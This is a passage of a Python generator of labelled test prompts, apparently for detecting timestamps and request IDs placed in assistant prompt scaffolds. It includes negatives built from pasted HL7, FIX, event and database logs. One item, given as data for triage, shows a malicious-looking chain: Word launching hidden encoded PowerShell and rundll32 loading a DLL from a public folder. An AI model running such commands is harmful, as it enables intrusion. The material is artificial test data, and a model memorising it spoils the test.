Магазин: polka.example
{v('datetime', 'Текущее время: ' + ru_long(t) + ' (МСК)')}
Регион доставки: Москва

Покупатель: Когда приедет заказ, если оформить его сейчас?""", "holdout3:multilingual:ru", ["header_block", "non_english", "ru_datetime", "stable_neighbours"])


@positive
def _zh_shop_header(g: Gen3) -> Draft:
    t = g.moment(CST_CN)
    return Draft(f"""{v('datetime', '当前时间：' + zh_long(t))}
{v('request_id', '请求编号：' + g.hex(20))}
店铺：青竹茶具旗舰店
你是店铺的客服助手。用简体中文回答，语气亲切，不承诺发货时间以外的事情。

顾客：紫砂壶第一次用需要开壶吗？""", "holdout3:multilingual:zh", ["head", "header_block", "non_english", "zh_datetime", "fullwidth_colon",
                                         "stable_neighbours"])


@positive
def _ko_game_notice(g: Gen3) -> Draft:
    t = g.moment(KST)
    return Draft(f"""너는 모바일 게임 '별빛 항해'의 고객지원 도우미야. 존댓말로 짧게 답해.
서버: 아시아-1
{v('datetime', '현재 시각: ' + ko_long(t))}

유저: 어제 산 패키지 보상이 우편함에 안 들어왔어요.""", "holdout3:multilingual:ko", ["system_tail", "non_english", "ko_datetime", "stable_neighbours"])


@positive
def _pl_insurance_claim(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""Jesteś asystentem zgłaszania szkód Towarzystwa Ubezpieczeń Wisła. Zbieraj fakty, nie oceniaj
odpowiedzialności.
Produkt: OC/AC komunikacyjne
{v('datetime', 'Data i godzina zgłoszenia: ' + pl_long(t))}
{v('session_id', 'Nr sesji: ' + g.digits(12))}

Klient: Wczoraj w nocy ktoś porysował mi drzwi na parkingu pod blokiem.
Asystent:""", "holdout3:multilingual:pl", ["header_block", "non_english", "pl_datetime", "decimal_id",
                                           "stable_neighbours"])


@positive
def _pt_br_bank_server_time(g: Gen3) -> Draft:
    t = g.moment(BRT)
    return Draft(f"""Você é o assistente do app do Banco Cerrado. Não peça senhas. Explique tarifas com clareza.
{v('datetime', 'Data/hora do servidor: ' + f'{t:%d/%m/%Y %H:%M:%S}' + ' (BRT)')}

Cliente: Por que paguei 12,90 de tarifa no Pix ontem?
Assistente:""", "holdout3:multilingual:pt-br", ["system_tail", "non_english", "dmy_datetime", "tz_suffix"])


# exotic clocks and runtime renderings of now

@positive
def _dotnet_ticks_header(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""Store: Lisboa-Chiado (POS-07)
{v('epoch', 'UtcTicks: ' + str(dotnet_ticks(t)))}
Currency: EUR

You help shop staff with the point-of-sale system: refunds, gift cards and end-of-day closing. Give
numbered steps that match the POS menus.

Staff: How do I refund half of a two-item sale?
Assistant:""", "holdout3:exotic:dotnet-ticks", ["head", "header_block", "dotnet_ticks", "stable_neighbours"])


@positive
def _filetime_sysmon(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""Sysmon copilot. Explain the process tree below to a tier-1 analyst and rate it benign / suspicious.
{v('epoch', 'QueryFileTime: ' + str(filetime(t)))}
Host: FIN-WS-118

winword.exe (PID 4412) -> cmd.exe /c powershell -nop -w hidden -enc SQBFAFgA... (PID 7720)
  -> powershell.exe (PID 7804) -> rundll32.exe C:\\Users\\Public\\x.dll,Start (PID 8012)
Rating:""", "holdout3:exotic:filetime", ["system_tail", "filetime", "stable_neighbours", "pasted_content_neighbour",
                                         "cue_line"])


@positive
def _excel_copilot_oadate(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""Workbook: Q4_budget_v3.xlsx
Sheet: Forecast
{v('datetime', 'NOW() at request: ' + oadate(t))}

You write Excel formulas for finance staff. Give the formula, then one sentence on how it works.
Use semicolons as argument separators (Portuguese locale).

Request: in D2, the number of working days from today until the date in C2, excluding the holidays
listed in Holidays!A2:A20
Formula:""", "holdout3:exotic:oadate", ["head", "header_block", "oadate", "stable_neighbours", "cue_line"])


@positive
def _rust_logfmt_now(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""level=info svc=quote-engine version=2.8.1 {v('datetime', 'now="' + chrono_utc(t, g.small(1, 1000)) + '"')} msg="prompt assembled"
You price freight quotes for Nordvik Shipping. Explain the quote's main cost drivers to the customer
in three bullets; do not change any number.

Quote: Rotterdam -> Gdansk, 2 x 40' HC, ocean EUR 1,840, BAF EUR 410, THC EUR 520, total EUR 2,770.
Explanation:""", "holdout3:exotic:rust-chrono", ["head", "logfmt", "key_value_inline", "chrono_utc", "cue_line"])


@positive
def _python_time_float_wallclock(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""You are a retrieval planner. Decide which of the indexes to query for the user's question and output
a JSON list of index names.
indexes: hr_policies, it_howtos, finance_faq, office_locations
{v('epoch', 'wallclock: ' + py_time(t, g.digits(1)))}

Question: who approves expenses over 2,000 euros in the Porto office?
Indexes:""", "holdout3:exotic:time-time", ["system_tail", "python_time_float", "unknown_label", "stable_neighbours",
                                           "cue_line"])


@positive
def _mssql_copilot(g: Gen3) -> Draft:
    t = g.moment_uk()
    return Draft(f"""T-SQL assistant for the Harbourside Insurance data team. SQL Server 2022, database ClaimsDW.
{v('datetime', 'GETDATE(): ' + mssql_now(t))}
Default schema: dw

Question: claims opened in the last 7 days per branch, with the average reserve
Query:""", "holdout3:exotic:mssql", ["system_tail", "header_block", "mssql_datetime", "stable_neighbours", "cue_line"])


@positive
def _spring_properties(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""spring.application.name=advisor-gateway
advisor.prompt.version=7
{v('datetime', 'advisor.request.time=' + java_ldt(t))}
{v('request_id', 'advisor.request.id=' + g.uuid4())}

You answer questions from Banca Serrano branch staff about internal procedures, citing the procedure
code (e.g. PR-114).

Staff: what's the procedure when a customer reports a lost debit card abroad?
Answer:""", "holdout3:exotic:java-properties", ["head", "properties", "java_ldt", "uuid", "stable_neighbours",
                                                "cue_line"])


@positive
def _go_service_footer(g: Gen3) -> Draft:
    t = g.moment_eu()
    mono = f"{g.small(1, 90000)}.{g.digits(9)}"
    return Draft(f"""Summarise the customer's complaint in one line for the ticket title, then classify urgency as low,
normal or high.

Complaint: Third time this month the parcel locker at Rua Augusta says "door error" and keeps my
parcel. I had to go back twice. This is ridiculous.

-- assembled by ticket-gateway (go1.23.3) {v('datetime', 'at ' + go_string(t, g.small(1, 1000), mono))}
""", "holdout3:exotic:go-string", ["footer", "tail", "inline_phrase", "go_time_string"])


@positive
def _unix_date_cron_head(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""{v('datetime', 'date: ' + unix_date(t))}
host: backup-01
job: nightly-restic

Read the backup job output and tell the admin in two sentences whether anything needs attention.

repository 4f2a9c1 opened (version 2, compression level auto)
Files:         312 new,    88 changed, 104233 unmodified
Added to the repository: 1.812 GiB (1.204 GiB stored)
Fatal: unable to save snapshot: sftp: "no space left on device"
Assessment:""", "holdout3:exotic:unix-date", ["head", "header_block", "unix_date", "stable_neighbours",
                                              "pasted_content_neighbour", "cue_line"])


@positive
def _kiosk_js_clock(g: Gen3) -> Draft:
    t = g.moment_pt()
    zone = "Western European Summer Time" if t.tzname() == "WEST" else "Western European Standard Time"
    return Draft(f"""Museum kiosk guide for the Museu do Azulejo. Answer visitors in their language, in at most three
sentences, and mention the room number.
{v('datetime', 'Kiosk clock: ' + js_tostring(t, zone))}
Kiosk: K-3 (main cloister)

Visitor: Where can I see the big panorama of Lisbon before the earthquake?
Guide:""", "holdout3:exotic:js-date", ["system_tail", "js_date_tostring", "stable_neighbours"])


@positive
def _azure_functions_invocation(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""Function: SummariseTicket
{v('request_id', 'Invocation: ' + g.uuid4())}
{v('datetime', 'Started: ' + dotnet_o(t, g.small(0, 10)))}
Summarise the support ticket in two sentences for the morning digest.

Ticket: Customer cannot log in with SSO since the IdP certificate was rotated; error AADSTS700027.
Summary:""", "holdout3:exotic:azure-functions", ["head", "header_block", "dotnet_roundtrip", "uuid", "stable_neighbours",
                                                 "cue_line"])


# templated sentences and phrases

@positive
def _fr_nous_sommes_sentence(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""Tu es Léa, l'assistante de la médiathèque de Nantes. {v('date', 'Nous sommes le ' + FR_DAYS[t.weekday()] + ' ' + str(t.day) + ' ' + FR_MONTHS[t.month - 1] + ' ' + str(t.year) + '.')} Réponds
en français, en deux phrases au plus, et indique les horaires quand c'est utile.

Horaires : mardi-samedi 10h-19h, dimanche 14h-18h, fermé le lundi.

Usager : Vous êtes ouverts demain ?
Assistante :""", "holdout3:sentence:fr", ["inline_sentence", "non_english", "fr_long_date", "head"])


@positive
def _it_is_currently_sentence(g: Gen3) -> Draft:
    t = g.moment_pt()
    h = t.hour % 12 or 12
    sentence = f"It is currently {h}:{t:%M} {'PM' if t.hour >= 12 else 'AM'} on {DAYS_LONG[t.weekday()]} in Lisbon."
    return Draft(f"""You are Tram, a city-transport helper for Lisbon. {v('datetime', sentence)} Use the timetable
below and say when the next two departures are.

Line 28E from Martim Moniz: every 12 minutes 07:00-21:00, every 20 minutes 21:00-23:00.

Rider: when's the next 28 from Martim Moniz?
Tram:""", "holdout3:sentence:currently", ["inline_sentence", "us_time", "weekday", "head"])


@positive
def _kiosk_last_user_phrase(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""You are the self-check-in assistant at Hotel Spree, Berlin. Keep answers under 40 words.

Guest: Is breakfast included in my booking, and until when is it served?
(sent {v('datetime', 'at ' + f'{t:%H:%M:%S}' + ' on ' + f'{t:%d.%m.%Y}')} from lobby kiosk K-2)
Assistant:""", "holdout3:sentence:kiosk", ["last_user", "inline_phrase", "de_dot_datetime", "cue_line"])


# structured config positions

@positive
def _toml_agent_config(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""[agent]
name = "ledger"
model = "small-2025-10"

[request]
{v('request_id', 'id = "' + g.ulid(t) + '"')}
{v('datetime', 'received = ' + rfc3339(t, 3))}

You categorise bank transactions for small-business bookkeeping into: revenue, cogs, payroll, rent,
software, travel, other. Output CSV: description,category.

POS COMPRA CONTINENTE 43,20
TRF SALARIO MARIA S 1.450,00
""", "holdout3:structured:toml", ["head", "toml", "ulid", "rfc3339", "stable_neighbours", "model_date_neighbour"])


@positive
def _ini_context_section(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""[context]
site=lisbon-02
{v('datetime', 'now=' + f'{t:%Y-%m-%d %H:%M:%S}')}
{v('request_id', 'request=' + g.hex(16))}
lang=pt

[instructions]
Responde como o assistente do ginásio FitLisboa. Aulas: pilates 2.ª e 4.ª às 19h, spinning 3.ª e 5.ª
às 18h30, yoga sábado às 10h.

[question]
Há aulas de yoga durante a semana?
""", "holdout3:structured:ini", ["head", "ini", "iso_space", "hex16", "stable_neighbours", "non_english"])


@positive
def _yaml_nested_request(g: Gen3) -> Draft:
    t = g.moment_us()
    return Draft(f"""returns_bot:
  store: Stride Shoes US
  policy_days: 60
  request:
    {v('request_id', 'id: ' + g.ksuid(t))}
    {v('datetime', 'received_at: ' + us_short(t))}
    channel: sms

Decide whether the return is eligible and reply to the customer in one friendly SMS.

Customer: bought the Trailrunner 4 on Oct 2, wore them twice outside, they rub my heel. can I return?
SMS:""", "holdout3:structured:yaml-nested", ["yaml_block", "head", "ksuid", "us_datetime", "stable_neighbours",
                                             "dates_in_content_neighbour", "cue_line"])


@positive
def _pt_md_session_table(g: Gen3) -> Draft:
    t = g.moment_pt()
    return Draft(f"""És o assistente da loja online Casa Oliva. Usa os dados da sessão só para personalizar; nunca os leias
em voz alta.

| Campo   | Valor                                |
|---------|--------------------------------------|
| Cliente | Helena Matos                         |
| Plano   | Oliva+                               |
{v('session_id', '| Sessão  | ' + g.uuid4() + ' |')}
{v('datetime', '| Hora    | ' + eu_short(t) + '                     |')}

Helena: Posso trocar o azeite que encomendei por uma embalagem maior?
Assistente:""", "holdout3:structured:md-table-pt", ["md_table", "non_english", "uuid", "eu_datetime",
                                                    "stable_neighbours"])


@positive
def _bracket_prefix_line(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""{v('session_id', '[conv:' + g.nanoid() + ']')} {v('epoch', '[t:' + str(epoch_ms(t)) + ']')} [tenant:acme-pt] [tier:gold]
You are the Acme Retail assistant. Answer about orders, deliveries and returns in European Portuguese.

Cliente: A minha encomenda diz "em trânsito" há cinco dias. É normal?
Assistente:""", "holdout3:structured:brackets", ["head", "bracketed", "two_in_line", "nanoid", "epoch_ms",
                                                 "stable_neighbours"])


@positive
def _shopify_webhook_headers(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""X-Shopify-Topic: orders/create
X-Shopify-Shop-Domain: casa-oliva.myshopify.com
X-Shopify-API-Version: 2024-10
{v('request_id', 'X-Shopify-Webhook-Id: ' + g.uuid4())}
{v('datetime', 'X-Shopify-Triggered-At: ' + rfc3339(t, 6))}

Write the packing-slip note (one sentence, warm) for this order.

Order #1043: 2 x Azeite Oliva Gold 750 ml, 1 x Flor de Sal 250 g. Gift message: "Feliz aniversário, Mãe!"
Note:""", "holdout3:structured:shopify-webhook", ["head", "header_block", "uuid", "rfc3339", "api_version_neighbour",
                                                  "stable_neighbours", "cue_line"])


@positive
def _lti13_id_token(g: Gen3) -> Draft:
    t = g.moment_uk()
    return Draft(f"""Deployment: canvas-prod / client_id 10000000000042
{v('token', 'id_token: ' + g.jwt(t, 'canvas-user-5521'))}

You are a writing tutor for first-year history students. Comment on structure and argument, never
rewrite the student's text for them.

Student: Here's my intro: "The Industrial Revolution changed Britain. It had many effects. This
essay will discuss them."
Tutor:""", "holdout3:education:lti13", ["head", "jwt", "stable_neighbours"])


@positive
def _unknown_label_minted(g: Gen3) -> Draft:
    t = g.moment()
    return Draft(f"""ctx.tenant: harbor-finch
ctx.flavour: concise
{v('datetime', 'ctx.minted: ' + rfc3339(t, 3))}
{v('nonce', 'ctx.salt: ' + g.b64url(18))}

Rewrite the partner's note as a client-ready paragraph. Keep every figure and date as written.

Note: fee cap agreed w/ client GBP 45k, phase 1 due 30 Jan, phase 2 TBC after board mtg 12 Feb.
""", "holdout3:structured:unknown-labels", ["head", "header_block", "unknown_label", "rfc3339", "nonce",
                                            "stable_neighbours", "dates_in_content_neighbour"])


@positive
def _iso_week_sprint_es(g: Gen3) -> Draft:
    t = g.moment_eu()
    return Draft(f"""Eres el asistente de planificación del equipo de datos de Aceitunas Sur. Propón qué historias caben en
el sprint según la capacidad.
{v('date', 'Semana actual: ' + iso_week(t))}
Capacidad: 34 puntos

Historias: ETL de ventas (8), panel de stock (13), alertas de margen (5), limpieza de clientes (8).
Propuesta:""", "holdout3:multilingual:es-week", ["system_tail", "non_english", "iso_week", "stable_neighbours",
                                                 "cue_line"])


@positive
def _ctime_report_builder(g: Gen3) -> Draft:
    t = g.moment_uk()
    return Draft(f"""You write the daily one-paragraph stand-up digest for the Quarry data team from the bullet notes.

- Owen: backfill of events_2025 done; verifying counts.
- Priya: dashboard filters bug fixed, deploying after lunch.
- Nadia: blocked on warehouse credits; needs finance approval.

Digest:

-- standup-bot 1.4 {v('datetime', 'at ' + ctime(t))}
""", "holdout3:exotic:ctime", ["tail", "footer", "inline_phrase", "ctime"])


# --- generated positives: a field, an application scaffold, a position ---------------------------

BODIES3: list[tuple[str, str, str, str]] = [
    ("grocery", "You are Cesta, the assistant of Mercado Norte's online grocery. Suggest substitutes for items that\n"
     "are out of stock and never change quantities without asking.", "The 1 kg bag of basmati is out, what now?",
     "Cesta:"),
    ("card-support", "You are the card-services assistant of Kestrel Bank. Explain card blocks, limits and disputes.\n"
     "Never ask for the PIN or the full card number.", "Why was my card declined at a petrol station in France?",
     "Assistant:"),
    ("clinic-desk", "You book appointments for the Riverside Physio clinic. Offer slots; never give medical advice.",
     "Do you have anything on Saturday morning for a knee assessment?", "Receptionist:"),
    ("recruiting", "You answer candidates' questions about Solvent Chemicals' hiring process: stages, timelines,\n"
     "and what to prepare. Do not comment on individual applications.", "How long does the whole process take?",
     "Assistant:"),
    ("listing", "You write short rental listings for Casa Lago lettings. Max 80 words, no superlatives.",
     "2-bed flat, 71 m2, balcony, lift, EUR 1,150 per month, near Saldanha metro.", "Listing:"),
    ("airline", "You help Skylark Air passengers rebook after cancellations. Offer the next two options on the same\n"
     "route and state the fare rules in one line.", "My 18:40 to Porto was cancelled. What are my options?", "Agent:"),
    ("bi", "You write BigQuery SQL for the Quarry analytics project. Use only the tables in `mart`.",
     "weekly active users by country for the last 8 weeks", "SQL:"),
    ("soc", "You are a SOC copilot. Explain alerts to tier-1 analysts and propose the next query to run.",
     "What does 'impossible travel' mean for user r.nunes and how do I verify it?", "Copilot:"),
    ("npc", "You voice Old Tamsin, a herbalist in the village of Brackenford. Warm, superstitious, speaks in short\n"
     "sentences, never mentions game mechanics.", "Do you have anything for a fever?", "Tamsin:"),
    ("lms-tutor", "You are a chemistry tutor inside the school's Moodle. Guide with questions; never give the final\n"
     "answer to graded exercises.", "How do I balance Fe + O2 -> Fe2O3?", "Tutor:"),
    ("l10n", "You translate app strings from English into European Portuguese. Keep placeholders and HTML tags.",
     "settings.title = Notification <b>settings</b> for {name}", "Translation:"),
    ("smart-home", "You are Helio, the smart-home assistant. Explain device states and suggest automations; never\n"
     "unlock doors without a PIN confirmation in the app.", "Why did the hallway light turn on at 3 am?", "Helio:"),
    ("eval-judge", "Grade the answer for correctness against the reference on a 0-2 scale. Output JSON with score and\n"
     "reason.", "Reference: 42 km. Answer: about 40 kilometres.", "Grade:"),
    ("merchant", "You help Lumen Coffee's shop staff with payment-terminal problems. Numbered steps only.",
     "The terminal says 'Host unreachable' for contactless payments.", "Assistant:"),
    ("legal-intake", "You gather facts for Okafor Brandt PC's intake team. Ask one question at a time and never say\n"
     "whether the person has a case.", "My employer hasn't paid my last two months of overtime.", "Assistant:"),
]

STABLE3: list[tuple[str, str, str]] = [
    ("Tenant", "tenant", "acme-retail-eu"), ("API version", "api_version", "2025-03-01-preview"),
    ("Knowledge cutoff", "knowledge_cutoff", "2025-01"), ("Prompt revision", "prompt_revision", "2026-10-02"),
    ("Locale", "locale", "pt-PT"), ("Region", "region", "eu-central-1"), ("Model", "model", "small-2025-10"),
    ("Channel", "channel", "web"), ("Build", "build", "2026.11.3"), ("Customer ID", "customer_id", "77120934"),
    ("Member since", "member_since", "2019-04-12"), ("Org ID", "org_id", "8c1e4b7a-2f3d-4a9e-b5c6-0d1e2f3a4b5c"),
    ("Schema date", "schema_date", "2024-07-15"), ("Plan", "plan", "Business"),
    ("Timezone", "timezone", "Europe/Lisbon"),
]

FIELDS3: list[tuple[str, str, str, str, Callable[[Gen3, datetime], str]]] = [
    ("datetime", "hl7_ts", "Msg time", "msg_time", lambda g, t: hl7_ts(t)),
    ("datetime", "fix_ts", "SendingTime", "sending_time", lambda g, t: fix_ts(t)),
    ("datetime", "java_date", "Server time", "server_time", lambda g, t: java_date(t)),
    ("datetime", "ruby_time", "Rendered", "rendered", lambda g, t: ruby_time(t)),
    ("datetime", "php_r", "Prompt date", "prompt_date", lambda g, t: php_r(t)),
    ("datetime", "pg_now", "DB now", "db_now", lambda g, t: pg_now(t)),
    ("datetime", "swift_date", "Client clock", "client_clock", lambda g, t: swift_now(t)),
    ("datetime", "java_ldt", "requestTime", "request_time", lambda g, t: java_ldt(t)),
    ("datetime", "dotnet_u", "Erfasst", "erfasst", lambda g, t: dotnet_u(t)),
    ("datetime", "fr_long", "Date de la demande", "date_demande", lambda g, t: fr_long(t)),
    ("datetime", "es_long", "Marca de tiempo", "marca_tiempo", lambda g, t: es_long(t)),
    ("datetime", "pt_long", "Carimbo", "carimbo", lambda g, t: pt_long(t)),
    ("datetime", "it_long", "Orario richiesta", "orario_richiesta", lambda g, t: it_long(t)),
    ("datetime", "nl_long", "Moment", "moment", lambda g, t: nl_long(t)),
    ("datetime", "windows_datetime", "Client time", "client_time", lambda g, t: windows_general(t)),
    ("datetime", "http_date", "Fetched", "fetched", lambda g, t: http_date(t)),
    ("datetime", "clf", "edge_time", "edge_time", lambda g, t: clf(t)),
    ("datetime", "ros2_time", "Now", "now", lambda g, t: ros2_time(t, g.small(1, 1000))),
    ("datetime", "oadate", "NOW()", "now_serial", lambda g, t: oadate(t)),
    ("datetime", "mssql_datetime", "Stempel", "stempel", lambda g, t: mssql_now(t)),
    ("date", "en_long", "Today", "today", lambda g, t: en_long(t)),
    ("date", "iso_week", "Woche", "woche", lambda g, t: iso_week(t)),
    ("epoch", "epoch_s", "iat", "iat", lambda g, t: str(epoch_s(t))),
    ("epoch", "epoch_ms", "sentAtMs", "sent_at_ms", lambda g, t: str(epoch_ms(t))),
    ("epoch", "epoch_us", "t_us", "t_us", lambda g, t: str(epoch_us(t))),
    ("epoch", "dotnet_ticks", "Ticks", "ticks", lambda g, t: str(dotnet_ticks(t))),
    ("request_id", "vercel_id", "x-vercel-id", "x_vercel_id", lambda g, t: g.vercel_id(t)),
    ("request_id", "fly_request_id", "fly-request-id", "fly_request_id", lambda g, t: g.fly_request_id(t)),
    ("request_id", "splunk_sid", "Search sid", "search_sid", lambda g, t: g.splunk_sid(t)),
    ("request_id", "uuid", "Anfrage-ID", "anfrage_id", lambda g, t: g.uuid4()),
    ("request_id", "ulid", "x-nf-request-id", "nf_request_id", lambda g, t: g.ulid(t)),
    ("request_id", "hex32", "queryID", "query_id", lambda g, t: g.hex(32)),
    ("request_id", "guid_braces", "CorrelationId", "correlation_id", lambda g, t: g.guid_braces()),
    ("session_id", "twilio_sid", "CallSid", "call_sid", lambda g, t: g.sid("CA")),
    ("session_id", "uuid", "ContactId", "contact_id", lambda g, t: g.uuid4()),
    ("session_id", "nanoid", "Sitzung", "sitzung", lambda g, t: g.nanoid()),
    ("message_id", "wamid", "wamid", "wamid", lambda g, t: g.wamid()),
    ("message_id", "epoch_ms_id", "activityId", "activity_id", lambda g, t: str(epoch_ms(t))),
    ("run_id", "hex32", "MLflow run", "mlflow_run_id", lambda g, t: g.hex(32)),
    ("run_id", "uuid", "invocation_id", "invocation_id", lambda g, t: g.uuid4()),
    ("trace_id", "uuid7", "trace", "trace_id", lambda g, t: g.uuid7(t)),
    ("nonce", "b62", "oauth_nonce", "oauth_nonce", lambda g, t: g.b62(32)),
    ("token", "session_key", "sesskey", "sesskey", lambda g, t: g.b62(10)),
]

POSITIONS3 = ["head", "system_tail", "header_block", "last_user", "tail", "yaml", "json", "xml_attr", "md_table",
              "html_comment", "kv_inline", "header_block2"]
GENERATED_POS = 30


def _q(value: str) -> str:
    return f'"{value}"' if (" " in value or ":" in value or "," in value) else value


def _moment_any(g: Gen3) -> datetime:
    zone = g.pick(["UTC", "EU", "US", "PT", "UK", "JST", "BRT", "AU", "IST"])
    if zone == "EU":
        return g.moment_eu()
    if zone == "US":
        return g.moment_us()
    if zone == "PT":
        return g.moment_pt()
    if zone == "UK":
        return g.moment_uk()
    if zone == "AU":
        return g.moment_au()
    return g.moment({"UTC": UTC, "JST": JST, "BRT": BRT, "IST": IST}[zone])


def generated_positives(g: Gen3) -> list[Draft]:
    """One or two fields in an application scaffold at one position; every position used, fields in turn."""
    fields = list(FIELDS3)
    g.rng.shuffle(fields)
    bodies = list(BODIES3)
    g.rng.shuffle(bodies)
    out: list[Draft] = []
    k_field = 0
    for k in range(GENERATED_POS):
        position = POSITIONS3[k % len(POSITIONS3)]
        name, system, question, cue_line = bodies[k % len(bodies)]
        count = 2 if position == "header_block2" else 1
        picked = [fields[(k_field + i) % len(fields)] for i in range(count)]
        k_field += count
        t = _moment_any(g)
        values = [(cue, family, label, key, make(g, t)) for cue, family, label, key, make in picked]
        stable = g.rng.sample(STABLE3, 3)
        cue, family, label, key, value = values[0]
        tags = ["generated", position, *[f[1] for f in values]]
        if position in ("head", "system_tail", "last_user"):
            mark = v(cue, f"{label}: {value}")
            if position == "head":
                text = f"{mark}\n{system}\n\nUser: {question}\n{cue_line}"
            elif position == "system_tail":
                text = f"{system}\n{mark}\n\nUser: {question}\n{cue_line}"
            else:
                text = f"{system}\n\nUser: {question}\n{mark}\n{cue_line}"
        elif position in ("header_block", "header_block2"):
            block = [f"{lab}: {val}" for lab, _, val in stable]
            for c, _, lab, _, val in values:
                block.insert(g.small(0, len(block) + 1), v(c, f"{lab}: {val}"))
            text = "\n".join(block) + f"\n\n{system}\n\nUser: {question}\n{cue_line}"
            tags.append("stable_neighbours")
        elif position == "tail":
            block = "\n".join(f"{lab}: {val}" for lab, _, val in stable)
            text = f"{block}\n{system}\n\nQuestion: {question}\n{v(cue, f'{label}: {value}')}\n"
            tags.append("stable_neighbours")
        elif position == "yaml":
            lines = [f"{k_}: {_q(val)}" for _, k_, val in stable]
            lines.insert(g.small(0, 4), v(cue, f"{key}: {_q(value)}"))
            text = "---\n" + "\n".join(lines) + f"\n---\n{system}\n\nUser: {question}\n{cue_line}"
            tags.append("stable_neighbours")
        elif position == "json":
            jv = value if cue == "epoch" else f'"{value}"'
            members = [f'  "{k_}": "{val}",' for _, k_, val in stable]
            members.insert(g.small(0, 3), "  " + v(cue, f'"{key}": {jv},'))
            members[-1] = members[-1].rstrip(",")
            text = "{\n" + "\n".join(members) + f"\n}}\n{system}\n\nUser: {question}\n{cue_line}"
            tags.append("stable_neighbours")
        elif position == "xml_attr":
            a, b = stable[0], stable[1]
            mark = v(cue, f'{key}="{value}"')
            text = (f'<context {a[1]}="{a[2]}" {mark} {b[1]}="{b[2]}">\n{system}\n</context>\n\n'
                    f"User: {question}\n{cue_line}")
            tags.append("stable_neighbours")
        elif position == "md_table":
            rows = [f"| {lab} | {val} |" for lab, _, val in stable]
            rows.insert(g.small(0, 4), v(cue, f"| {label} | {value} |"))
            text = (f"{system}\n\n| Field | Value |\n|-------|-------|\n" + "\n".join(rows)
                    + f"\n\nUser: {question}\n{cue_line}")
            tags.append("stable_neighbours")
        elif position == "html_comment":
            a = stable[0]
            text = (f"<!-- {a[0]}: {a[2]} -->\n{v(cue, f'<!-- {label}: {value} -->')}\n{system}\n\n"
                    f"User: {question}\n{cue_line}")
            tags.append("stable_neighbours")
        else:
            a, b = stable[0], stable[1]
            mark = v(cue, f"{key}={_q(value)}")
            text = f"meta: {a[1]}={a[2]} {mark} {b[1]}={b[2]}\n{system}\n\nUser: {question}\n{cue_line}"
            tags.append("stable_neighbours")
        out.append(Draft(text, f"holdout3:generated:{name}+{'+'.join(f[1] for f in values)}", tags))
    return out


# --- negatives: every date, time and id is content or stable --------------------------------------

@negative
def _n_hl7_adt_rejected(g: Gen3) -> Draft:
    return neg("hl7-adt-pasted", ["pasted_message", "hl7", "id_in_question"], """Our interface engine rejected this ADT message with "AR - segment PID missing required field". Which
field is it, and how should the sending system fix it?

MSH|^~\\&|EPICADT|CVFM|LABSYS|CVFM|20261203141502-0500||ADT^A08^ADT_A01|884120733|P|2.5.1
EVN|A08|20261203141502-0500
PID|1||MRN004412^^^CVFM^MR||Ramos^Elena^M||19780214|F|||12 Oak St^^Fresno^CA^93721
PV1|1|O|CLINIC^^^CVFM||||1234^Osei^Amara""")


@negative
def _n_fix_exec_report(g: Gen3) -> Draft:
    return neg("fix-pasted", ["pasted_message", "fix", "id_in_question"], """Decode this FIX execution report for me field by field and tell me why the order was rejected.

8=FIX.4.4|9=212|35=8|34=4412|49=BROKERX|56=FUNDA|52=20261203-14:22:05.118|37=ORD-77120|11=CL-20261203-0042|17=EXEC-88121|150=8|39=8|55=SAP|54=1|38=5000|44=182.40|60=20261203-14:22:05.102|58=Price outside collar|10=144|""")


@negative
def _n_windows_4625_xml(g: Gen3) -> Draft:
    return neg("windows-event-pasted", ["pasted_event", "windows_event_xml", "id_in_question"], """Is this failed logon an attack or a user typing the wrong password? What does status 0xC000006A mean?

<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">
  <System>
    <Provider Name="Microsoft-Windows-Security-Auditing"/>
    <EventID>4625</EventID>
    <TimeCreated SystemTime="2026-12-02T07:58:41.5520231Z"/>
    <EventRecordID>9912044</EventRecordID>
    <Correlation ActivityID="{A3F1C2E0-8B7D-4E6F-9A1B-2C3D4E5F6A7B}"/>
    <Computer>FIN-WS-118.corp.contoso.com</Computer>
  </System>
  <EventData>
    <Data Name="TargetUserName">m.costa</Data>
    <Data Name="Status">0xc000006d</Data>
    <Data Name="SubStatus">0xc000006a</Data>
    <Data Name="LogonType">2</Data>
  </EventData>
</Event>""")


@negative
def _n_postgres_deadlock_log(g: Gen3) -> Draft:
    return neg("postgres-log-pasted", ["pasted_log", "postgres"], """Explain this deadlock and how to avoid it in the application code.

2026-12-02 09:14:55.318 CET [48213] ERROR:  deadlock detected
2026-12-02 09:14:55.318 CET [48213] DETAIL:  Process 48213 waits for ShareLock on transaction 9981221; blocked by process 48190.
	Process 48190 waits for ShareLock on transaction 9981218; blocked by process 48213.
2026-12-02 09:14:55.318 CET [48213] HINT:  See server log for query details.
2026-12-02 09:14:55.318 CET [48213] STATEMENT:  UPDATE stock SET qty = qty - 1 WHERE sku = 'OLV-750';""")


@negative
def _n_mysql_slow_log(g: Gen3) -> Draft:
    return neg("mysql-slow-log", ["pasted_log", "mysql"], """Why is this query slow and what index would help?

# Time: 2026-12-01T22:41:07.512344Z
# User@Host: shop[shop] @ app-03 [10.0.4.17]  Id: 881204
# Query_time: 7.412301  Lock_time: 0.000112 Rows_sent: 20  Rows_examined: 1840221
SET timestamp=1796165467;
SELECT * FROM orders WHERE DATE(created_at) = '2026-12-01' AND status = 'paid' ORDER BY created_at DESC LIMIT 20;""")


@negative
def _n_redis_monitor(g: Gen3) -> Draft:
    return neg("redis-monitor", ["pasted_log", "redis", "epoch_in_content"], """These lines are from redis-cli MONITOR during a latency spike. What pattern do you see?

1796301234.512345 [0 10.0.4.17:51234] "GET" "session:7f3c2a19"
1796301234.512902 [0 10.0.4.17:51234] "KEYS" "cart:*"
